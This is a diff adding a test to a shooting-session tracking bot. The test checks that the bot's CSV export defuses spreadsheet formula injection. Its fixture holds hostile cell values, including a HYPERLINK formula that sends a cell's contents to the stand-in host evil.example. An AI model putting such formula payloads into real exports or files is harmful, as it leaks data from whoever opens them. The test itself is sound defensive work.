@@ -265,3 +265,48 @@ async def test_stats_sends_charts(bot: AimTrackApplication, emulator: BotApiEmul
         "That button is no longer valid.",
     ]
     assert len([m for m in alice.messages if m.photo]) == 3
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(
+    bot: AimTrackApplication, emulator: BotApiEmulator, db: Database
+) -> None:
+    """OWASP's CSV injection advice: a text cell starting with =, +, -, @, tab or CR gets a leading quote;
+    numbers stay numbers (a negative one too: tests/test_export_service.py)."""
+    hostile = {
+        "club": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "location": "+31 20 123",
+        "discipline": "-2+3",
+        "weather": "@SUM(1+1)",
+        "raw_notes": "\t=1+1",
+        "ammo_brand": "\r=cmd",
+    }
+    async with db.session() as s:
+        s.add(User(id=ALICE, display_name="Alice"))
+        await s.flush()
+        weapon = Weapon(user_id=ALICE, name="=1+2", type="pistol", caliber="9mm", serial_number="-GX")
+        s.add(weapon)
+        await s.flush()
+        row = ShootingSession(user_id=ALICE, date=dt.date(2026, 3, 10), **hostile)
+        row.entries = [
+            SessionWeaponEntry(
+                weapon_id=weapon.id,
+                distance_m=25,
+                shot_count=50,
+                ammo_caliber="9mm",
+                score=441,
+                grouping_note="a - in the middle is fine",
+            )
+        ]
+        s.add(row)
+    alice = emulator.user(ALICE, first_name="Alice")
+    await alice.tap(await alice.ask("/export"), "This year")
+    await alice.tap(await alice.next_edit(), "Next ▶")
+    await alice.tap(await alice.next_edit(), "📊 CSV (Excel)")
+    document = (await alice.next_message()).document
+    [cells] = list(csv.DictReader(io.StringIO(document.data.decode("utf-8-sig"), newline="")))
+    for column, value in hostile.items():
+        assert cells[column.removeprefix("raw_")] == "'" + value, column
+    assert (cells["weapon"], cells["serial_number"]) == ("'=1+2", "'-GX")
+    assert cells["score"] == "441"
+    assert cells["grouping_note"] == "a - in the middle is fine"
+    assert cells["date"] == "2026-03-10" and cells["shot_count"] == "50"
